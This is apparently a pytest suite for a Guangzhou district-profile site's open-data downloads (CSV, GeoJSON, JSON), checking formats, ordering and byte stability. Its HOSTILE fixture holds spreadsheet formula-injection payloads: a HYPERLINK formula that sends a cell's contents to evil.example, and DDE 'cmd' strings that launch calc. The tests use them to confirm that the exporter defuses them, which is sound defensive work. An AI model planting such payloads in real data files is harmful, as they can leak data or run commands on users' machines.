"""Open-data downloads: CSV safe in Excel, GeoJSON valid, JSON round-trips, bytes stable."""

from __future__ import annotations

import csv
import json
import re
from datetime import date
from pathlib import Path
from pathlib import Path as _Path

import pytest

from profiles.engine.output import Outputs
from profiles.ingest.registry import read as read_registry
from profiles.model import City, District, Source
from profiles.model.dataset import Dataset
from profiles.outputs.exports import cell, describe_exports
from profiles.outputs.exports.tables import TABLES, csv_name
from tests.render import render_output

BY_SLUG = read_registry(_Path(__file__).parent.parent / "data" / "registry.yaml")

GZ_BBOX = (112.9, 22.5, 114.1, 24.0)  # Guangzhou, WGS-84, with a little slack
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "plus": "+1",
    "minus": "-cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


def _district(slug: str, **lists) -> District:
    e = BY_SLUG[slug]
    return District.model_validate(
        {
            "slug": slug,
            "name": {"zh": e.zh, "en": e.en},
            "code": e.code,
            "summary": f"{e.zh}简介。",
            "summary_sources": ["src-a"],
            **lists,
        }
    )


def make_dataset() -> Dataset:
    sources = [
        Source(
            id="src-a",
            title="政府工作报告",
            publisher="区政府",
            published=date(2025, 1, 10),
            url="https://example.gov.cn/a",
        ),
        Source(id="src-b", title=HOSTILE["hyperlink"], publisher="=1+2", published=date(2024, 12, 1)),
        Source(id="src-unused", title="未引用", publisher="某报", published=date(2023, 5, 6)),
    ]
    tianhe = _district(
        "tianhe",
        goals=[
            {
                "id": "gdp-2025",
                "theme": "经济增长",
                "statement": HOSTILE["plus"],
                "metric": "地区生产总值",
                "target": {"comparator": "at_least", "value": 5.5, "unit": "%", "measure": "growth"},
                "year": 2025,
                "sources": ["src-a", "src-b"],
                "quotes": [
                    {"text": "=增长5.5%以上", "source": "src-a"},
                    {"text": "增速居前", "source": "src-b", "where": "一、经济"},
                ],
            },
            {
                "id": "no-target",
                "theme": "招商",
                "statement": "引进企业",
                "metric": "企业数",
                "year": 2026,
                "unverified": True,
                "note": HOSTILE["tab"],
            },
        ],
        indicators=[
            {
                "id": "decline",
                "theme": "工业",
                "statement": "工业产值下降",
                "metric": HOSTILE["minus"],
                "value": {"value": -3.5, "unit": "%"},
                "as_of": "2024",
                "sources": ["src-a"],
            },
        ],
        enterprises=[
            {
                "id": "ent",
                "name": HOSTILE["at"],
                "sector": "互联网",
                "role": "总部",
                "park": "cbd",
                "sources": ["src-a"],
                "quote": "=天河区总部企业…营收超百亿",
                "editorial": "@行业“互联网”为编者补充",
                "caution": "+所在区来源没有说",
            }
        ],
        parks=[
            {
                "id": "cbd",
                "name": "天河中央商务区",
                "kind": "functional_zone",
                "focus": ["金融", "总部经济"],
                "location": {
                    "lon": 113.3245,
                    "lat": 23.1189,
                    "precision": "approximate",
                    "basis": "片区中心",
                    "polygon": [[113.31, 23.11], [113.34, 23.11], [113.34, 23.13]],
                },
                "area": {"value": 20, "unit": "平方公里"},
                "sources": ["src-a"],
            },
        ],
        projects=[
            {
                "id": "smart-city",
                "name": "天河智慧城",
                "category": "industry",
                "status": "under_construction",
                "status_as_of": "2024-06",
                "location": {"lon": 113.3912, "lat": 23.1755, "precision": "approximate"},
                "investment": {"value": 47, "unit": "亿元", "comparator": "more_than"},
                "sources": ["src-a"],
            },
        ],
    )
    haizhu = _district(
        "haizhu",
        parks=[
            {
                "id": "pazhou",
                "name": "琶洲人工智能与数字经济试验区",
                "kind": "innovation_platform",
                "location": {"lon": 113.365, "lat": 23.101, "precision": "approximate"},
                "sources": ["src-b"],
            }
        ],
        projects=[
            {
                "id": "cbd",
                "name": "琶洲西区",
                "category": "headquarters",
                "status": "operating",
                "status_as_of": "2023",
                "location": {"lon": 113.352, "lat": 23.0995, "precision": "exact"},
                "sources": ["src-b"],
            }
        ],
    )
    city = City.model_validate(
        {
            "name": {"zh": "广州市", "en": "Guangzhou"},
            "code": "440100",
            "summary": "广州简介。",
            "summary_sources": ["src-a"],
            "industrial_system": {"label": "12218", "name": "现代化产业体系", "sources": ["src-a"]},
            "goals": [
                {
                    "id": "city-gdp",
                    "theme": "经济增长",
                    "statement": "全市增长",
                    "metric": "地区生产总值",
                    "target": {"comparator": "about", "value": -2, "unit": "%", "measure": "growth"},
                    "year": 2025,
                    "sources": ["src-a"],
                }
            ],
        }
    )
    # Inserted out of registry order on purpose: output must follow the registry.
    return Dataset(
        Path("data"), {s.id: s for s in sources}, city, {"tianhe": tianhe, "haizhu": haizhu}, registry=BY_SLUG
    )


def make_boundaries() -> dict:
    def box(x0, y0, x1, y1):
        return {"type": "Polygon", "coordinates": [[[x0, y0], [x1, y0], [x1, y1], [x0, y1], [x0, y0]]]}

    return {"tianhe": box(113.29, 23.10, 113.44, 23.25), "haizhu": box(113.23, 23.04, 113.41, 23.11)}


def exports(folder: Path, boundaries=None) -> Outputs:
    """The downloads as a build renders them (PARTS, then DOWNLOADS), in page order (`folder`: the project's)."""
    made = render_output(
        "download", folder, dataset=make_dataset(), boundaries=make_boundaries() if boundaries is None else boundaries
    )
    out = Outputs()
    for path in made.views:
        out.put(path, made.files[path])
    return out


def export_to(folder: Path, boundaries=None) -> tuple[Outputs, list[Path]]:
    """The downloads written under `folder`, as build.sync would under docs/."""
    out = exports(folder.with_name(folder.name + "-project"), boundaries)
    out.write_to(folder)
    return out, [folder / rel for rel in out.files]


@pytest.fixture
def exported(tmp_path):
    _, paths = export_to(tmp_path)
    return tmp_path, paths


def read_csv(path: Path) -> list[dict]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf"), "Excel needs the BOM"
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_files_written_under_data(exported):
    out, paths = exported
    names = [p.relative_to(out).as_posix() for p in paths]
    assert names[0] == "data/all.json"
    for table in ("goals", "indicators", "enterprises", "parks", "projects", "sources"):
        assert f"data/{table}.csv" in names
    # registry order: haizhu (440105) before tianhe (440106)
    assert names[-2:] == ["data/districts/haizhu.json", "data/districts/tianhe.json"]
    assert {"data/parks.geojson", "data/projects.geojson", "data/boundaries.geojson"} <= set(names)


def test_csv_parses_with_bom_and_crlf(exported):
    out, _ = exported
    raw = (out / "data/goals.csv").read_bytes()
    assert raw.count(b"\r\n") == raw.count(b"\n"), "every line ends in CRLF"
    goals = read_csv(out / "data/goals.csv")
    assert list(goals[0])[:2] == ["district", "id"]
    assert [(g["district"], g["id"]) for g in goals] == [
        ("guangzhou", "city-gdp"),
        ("tianhe", "gdp-2025"),
        ("tianhe", "no-target"),
    ]
    g = goals[1]
    assert (g["target_comparator"], g["target_value"], g["target_unit"], g["target_measure"]) == (
        "at_least",
        "5.5",
        "%",
        "growth",
    )
    assert g["sources"] == "src-a;src-b"
    assert goals[2]["target_value"] == "" and goals[2]["unverified"] == "true"


def test_formula_cells_neutralised(exported):
    out, _ = exported
    goals = read_csv(out / "data/goals.csv")
    assert goals[1]["statement"] == "'+1"
    # the model strips the tab, and what remains is still a formula
    assert goals[2]["note"] == "'=1+1"
    assert cell("\t=1+1") == "'\t=1+1" and cell("\r=1") == "'\r=1"
    assert read_csv(out / "data/reported.csv")[0]["metric"] == "'" + HOSTILE["minus"]
    assert read_csv(out / "data/enterprises.csv")[0]["name"] == "'" + HOSTILE["at"]
    src = {s["id"]: s for s in read_csv(out / "data/sources.csv")}
    assert src["src-b"]["title"] == "'" + HOSTILE["hyperlink"]
    assert src["src-b"]["publisher"] == "'=1+2"
    for path in (out / "data").glob("*.csv"):
        for row in read_csv(path):
            for value in row.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, value)


def test_the_quote_editorial_note_and_caution_are_columns_defused_like_every_cell(exported):
    out, _ = exported
    [row] = read_csv(out / "data/enterprises.csv")
    assert list(row)[-7:] == ["sources", "unverified", "note", "quote", "editorial", "quotes", "caution"]
    assert (row["quote"], row["editorial"]) == ("'=天河区总部企业…营收超百亿", "'@行业“互联网”为编者补充")
    assert (row["quotes"], row["caution"]) == ("", "'+所在区来源没有说")
    tianhe = json.loads((out / "data/districts/tianhe.json").read_text(encoding="utf-8"))["district"]
    assert tianhe["enterprises"][0]["quote"] == "=天河区总部企业…营收超百亿"  # JSON carries it as written


def test_each_of_several_quotes_is_one_cell_part_naming_its_source_and_json_keeps_where_it_sits(exported):
    out, _ = exported
    goal = next(g for g in read_csv(out / "data/goals.csv") if g["id"] == "gdp-2025")
    assert goal["quote"] == "" and goal["quotes"] == "[src-a] =增长5.5%以上;[src-b] 增速居前"
    tianhe = json.loads((out / "data/districts/tianhe.json").read_text(encoding="utf-8"))["district"]
    assert tianhe["goals"][0]["quotes"][1] == {"text": "增速居前", "source": "src-b", "where": "一、经济"}


def test_negative_numbers_stay_numeric(exported):
    out, _ = exported
    ind = read_csv(out / "data/reported.csv")[0]
    assert ind["value"] == "-3.5" and float(ind["value"]) == -3.5
    assert read_csv(out / "data/goals.csv")[0]["target_value"] == "-2"
    assert cell(-3.5) == -3.5 and cell(-2.0) == -2 and cell("-2") == "'-2" and cell(True) == "true"


def test_sources_csv_lists_citing_districts(exported):
    out, _ = exported
    src = {s["id"]: s for s in read_csv(out / "data/sources.csv")}
    assert src["src-a"]["cited_by"] == "guangzhou;haizhu;tianhe"
    assert src["src-b"]["cited_by"] == "haizhu;tianhe"
    assert src["src-unused"]["cited_by"] == "" and src["src-a"]["published"] == "2025-01-10"


def test_csv_locations_and_quantities(exported):
    out, _ = exported
    park = read_csv(out / "data/parks.csv")[1]
    assert (park["lon"], park["lat"], park["precision"], park["has_polygon"]) == (
        "113.3245",
        "23.1189",
        "approximate",
        "true",
    )
    assert (
        park["focus"] == "金融;总部经济" and park["area_value"] == "20" and park["url"] == "/districts/tianhe/#park-cbd"
    )
    proj = read_csv(out / "data/projects.csv")[1]
    assert (proj["investment_value"], proj["investment_unit"], proj["investment_comparator"]) == (
        "47",
        "亿元",
        "more_than",
    )
    assert park["area_comparator"] == "" and park["investment_value"] == ""  # stated exactly; no investment


def check_feature_collection(path: Path) -> list[dict]:
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["type"] == "FeatureCollection"
    ids = [f["id"] for f in doc["features"]]
    assert len(ids) == len(set(ids)), "feature ids unique"
    for f in doc["features"]:
        assert f["type"] == "Feature" and isinstance(f["properties"], dict)
        assert f["geometry"]["type"] in ("Point", "Polygon", "MultiPolygon")
    return doc["features"]


def test_point_geojson(exported):
    out, _ = exported
    parks = check_feature_collection(out / "data/parks.geojson")
    projects = check_feature_collection(out / "data/projects.geojson")
    for f in parks + projects:
        lon, lat = f["geometry"]["coordinates"]
        assert GZ_BBOX[0] <= lon <= GZ_BBOX[2] and GZ_BBOX[1] <= lat <= GZ_BBOX[3]
        p = f["properties"]
        assert f["id"] == f"{p['district']}/{p['id']}"
        assert p["url"].startswith(f"/districts/{p['district']}/#")
    # same id "cbd" in two districts (a park in tianhe, a project in haizhu) stays unique
    assert [f["properties"]["url"] for f in projects] == [
        "/districts/haizhu/#project-cbd",
        "/districts/tianhe/#project-smart-city",
    ]
    assert parks[0]["geometry"]["coordinates"] == [113.365, 23.101], "coordinates as stored"
    assert set(projects[0]["properties"]) >= {"district", "id", "name", "category", "status", "precision", "url"}
    assert set(parks[0]["properties"]) >= {"district", "id", "name", "kind", "precision", "url"}


def test_boundaries_geojson(exported):
    out, _ = exported
    features = check_feature_collection(out / "data/boundaries.geojson")
    assert [f["properties"] for f in features] == [
        {"slug": "haizhu", "name": "海珠区", "name_en": "Haizhu District", "adcode": "440105"},
        {"slug": "tianhe", "name": "天河区", "name_en": "Tianhe District", "adcode": "440106"},
    ]
    assert features[1]["geometry"] == make_boundaries()["tianhe"]


def test_json_round_trips_into_models(exported):
    out, _ = exported
    ds = make_dataset()
    doc = json.loads((out / "data/all.json").read_text(encoding="utf-8"))
    assert doc["schema_version"] == 1 and list(doc) == ["schema_version", "city", "districts", "sources"]
    assert [District.model_validate(d) for d in doc["districts"]] == [ds.districts["haizhu"], ds.districts["tianhe"]]
    assert City.model_validate(doc["city"]) == ds.city
    assert [Source.model_validate(s) for s in doc["sources"]] == list(ds.sources.values())
    one = json.loads((out / "data/districts/haizhu.json").read_text(encoding="utf-8"))
    assert District.model_validate(one["district"]) == ds.districts["haizhu"]
    assert [s["id"] for s in one["sources"]] == ["src-a", "src-b"]  # only what it cites
    park = one["district"]["parks"][0]
    assert list(park)[:2] == ["id", "name"] and list(park)[-7:] == [
        "sources",
        "unverified",
        "note",
        "quote",
        "quotes",
        "editorial",
        "caution",
    ]
    raw = (out / "data/all.json").read_text(encoding="utf-8")
    assert "天河区" in raw and raw.endswith("}\n"), "ensure_ascii=False, trailing newline"


def test_two_runs_identical_bytes(tmp_path):
    _, a = export_to(tmp_path / "a")
    _, b = export_to(tmp_path / "b")
    assert [p.relative_to(tmp_path / "a") for p in a] == [p.relative_to(tmp_path / "b") for p in b]
    for pa, pb in zip(a, b):
        assert pa.read_bytes() == pb.read_bytes(), pa.name


def test_stale_district_file_removed_by_the_sync_into_docs(tmp_path):
    from profiles.site.build import sync

    stale = tmp_path / "data/districts/liwan.json"
    stale.parent.mkdir(parents=True)
    stale.write_text("{}")
    out = exports(tmp_path / "project")
    written, removed = sync(out, tmp_path, managed=("data",))
    assert removed == ["data/districts/liwan.json"] and not stale.exists()
    assert "data/all.json" in written


def test_counts_taken_from_the_data_match_counting_the_files(tmp_path):
    from profiles.outputs.exports import export_counts
    from profiles.outputs.exports.manifest import _count

    files, _ = export_to(tmp_path)
    counts = export_counts(make_dataset())
    # all.json, the tables, indicators.json, two GeoJSON layers, one JSON per district (boundaries: on the file)
    assert len(counts) == 1 + len(TABLES) + 1 + 2 + len(make_dataset().districts)
    for rel, expected in counts.items():
        assert _count(files[rel], rel) == expected, rel


def test_manifest_describes_every_field(tmp_path):
    files, paths = export_to(tmp_path)
    out = tmp_path
    manifest = describe_exports([p.relative_to(tmp_path).as_posix() for p in paths], files)
    assert len(manifest) == len(paths)
    by_url = {m["url"]: m for m in manifest}
    assert by_url["/data/goals.csv"]["count"] == 3 and by_url["/data/goals.csv"]["format"] == "CSV"
    assert by_url["/data/parks.geojson"]["count"] == 2
    assert by_url["/data/all.json"]["count"] == 2
    assert by_url["/data/districts/tianhe.json"]["count"] == 6
    for m in manifest:
        assert m["bytes"] == (out / m["url"].lstrip("/")).stat().st_size > 0
        assert m["title"] and m["fields"], m["url"]
        for field in m["fields"]:
            assert field["description"].strip(), (m["url"], field["name"])
    # CSV field list = header, in order
    for table in TABLES:
        header = next(csv.reader((out / f"data/{csv_name(table)}").open(encoding="utf-8-sig", newline="")))
        assert [f["name"] for f in by_url[f"/data/{csv_name(table)}"]["fields"]] == header
    # descriptions come from the model, not a hand-kept copy
    target_value = next(f for f in by_url["/data/goals.csv"]["fields"] if f["name"] == "target_value")
    assert target_value["description"].startswith("目标数值")


REAL_BOUNDARIES = Path(__file__).resolve().parent.parent / "data" / "boundaries" / "guangzhou.geojson"


@pytest.mark.skipif(not REAL_BOUNDARIES.exists(), reason="boundary file not built")
def test_real_boundaries_copied(tmp_path):
    from profiles.facts.geo import load_boundaries

    source = json.loads(REAL_BOUNDARIES.read_text(encoding="utf-8"))
    export_to(tmp_path, load_boundaries(REAL_BOUNDARIES))
    features = check_feature_collection(tmp_path / "data/boundaries.geojson")
    assert [f["properties"]["slug"] for f in features] == list(BY_SLUG)
    by_slug = {f["properties"]["slug"]: f for f in source["features"]}
    for f in features:
        original = by_slug[f["id"]]
        assert f["geometry"] == original["geometry"], "coordinates exactly as stored"
        assert f["properties"]["adcode"] == original["properties"]["adcode"]


# ---- the English /data/ page's descriptions (the files are the same in both editions) ----

HAN = re.compile(r"[\u3400-\u9fff]")


def test_every_column_and_field_the_data_page_describes_reads_in_english():
    from profiles.outputs.exports.manifest import _json_field_docs, boundary_fields

    described = [(table, c.name, c.describe("en")) for table, columns in TABLES.items() for c in columns]
    described += [
        (f"json:{whole}", name, doc) for whole in (True, False) for name, doc in _json_field_docs(whole, "en")
    ]
    described += [("boundaries", name, doc) for name, doc in boundary_fields("en")]
    chinese = [(where, name, doc) for where, name, doc in described if HAN.search(doc)]
    assert not chinese, "add their English to profiles/outputs/exports/en.po:\n" + "\n".join(map(str, chinese))


def test_a_quantity_s_and_a_list_s_descriptions_keep_their_chinese_and_read_whole_in_english():
    parks = {c.name: c for c in TABLES["parks"]}
    assert parks["area_value"].describe().startswith("面积：数值")
    assert parks["area_value"].describe("en").startswith("Area: Value")
    sources = {c.name: c for c in TABLES["goals"]}["sources"]
    assert "多个以 `;` 分隔" in sources.describe() and "several separated by `;`" in sources.describe("en")


def test_the_english_manifest_titles_counts_and_fields_in_english(tmp_path):
    files, paths = export_to(tmp_path)
    rels = [p.relative_to(tmp_path).as_posix() for p in paths]
    manifest = describe_exports(rels, files, {"tianhe": "Tianhe District"}, lang="en")
    by_url = {m["url"]: m for m in manifest}
    assert by_url["/data/districts/tianhe.json"]["title"] == "All data on Tianhe District"
    assert (by_url["/data/goals.csv"]["title"], by_url["/data/goals.csv"]["count_unit"]) == (
        "Development goals",
        "rows",
    )
    for m in manifest:
        assert not HAN.search(m["title"] + m["count_unit"]), m["url"]
        assert not [f for f in m["fields"] if HAN.search(f["description"])], m["url"]
    assert [m["path"] for m in manifest] == [m["path"] for m in describe_exports(rels, files)]  # the same files
